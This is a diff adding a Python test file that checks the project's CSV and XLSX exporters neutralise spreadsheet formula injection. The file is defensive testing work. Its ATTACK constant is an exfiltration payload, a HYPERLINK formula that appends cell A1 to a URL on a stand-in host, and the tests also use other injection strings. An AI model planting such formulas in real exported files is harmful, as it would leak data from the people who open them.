@@ -1,0 +1,75 @@
+"""Every CSV and XLSX writes text as text (no formula runs) and numbers as numbers."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+from decimal import Decimal
+from pathlib import Path
+
+from openpyxl import load_workbook
+
+from stars.core.spreadsheets import csv_text, xlsx
+
+ATTACK = '=HYPERLINK("http://example.invalid/?d="&A1,"Click")'
+SRC = Path(__file__).resolve().parents[2] / "src" / "stars"
+
+
+def test_csv_quotes_formulas_and_keeps_numbers():
+    rows = [
+        [ATTACK, "+1+1", "@SUM(A1)", "\t=1", "-853592.00", -853592.0, Decimal("-1.50"), None, "ok"]
+    ]
+    text = csv_text(["=header", "b", "c", "d", "e", "f", "g", "h", "i"], rows)
+    header, row = list(csv.reader(io.StringIO(text)))
+    assert header[0] == "'=header"
+    assert row == [
+        "'" + ATTACK,
+        "'+1+1",
+        "'@SUM(A1)",
+        "'\t=1",
+        "-853592.00",
+        "-853592.0",
+        "-1.50",
+        "",
+        "ok",
+    ]
+
+
+def test_xlsx_text_is_typed_as_text_and_numbers_stay_numbers():
+    body = xlsx(
+        {"Sheet": (["name", "amount", "code"], [[ATTACK, Decimal("-853592.00"), "#N/A"]])},
+        money_columns={"Sheet": {"amount"}},
+    )
+    ws = load_workbook(io.BytesIO(body)).active
+    name, amount, code = ws[2]
+    assert (name.value, name.data_type) == (ATTACK, "s")  # shown as typed, not run
+    assert name.quotePrefix  # and editing the cell does not bring it to life
+    assert (amount.value, amount.data_type) == (-853592.0, "n")
+    assert (code.value, code.data_type) == ("#N/A", "s")  # not an error value either
+    assert not ws[1][0].quotePrefix
+
+
+def test_only_the_spreadsheet_module_writes_csv_or_xlsx():
+    """Every CSV and XLSX goes through stars.core.spreadsheets (the tracker's CSV, in the
+    domain, applies the same rule from stars.domain.spreadsheet_text)."""
+    allowed = {SRC / "core" / "spreadsheets.py", SRC / "domain" / "tracker_rows.py"}
+    offenders = []
+    for path in SRC.rglob("*.py"):
+        if path in allowed:
+            continue
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            if (
+                isinstance(node, ast.Attribute)
+                and node.attr in ("writer", "DictWriter")
+                and isinstance(node.value, ast.Name)
+                and node.value.id == "csv"
+            ):
+                offenders.append(f"{path.relative_to(SRC)}: csv.{node.attr}")
+            if (
+                isinstance(node, ast.ImportFrom)
+                and (node.module or "").startswith("openpyxl")
+                and any(a.name == "Workbook" for a in node.names)
+            ):
+                offenders.append(f"{path.relative_to(SRC)}: openpyxl Workbook")
+    assert offenders == []
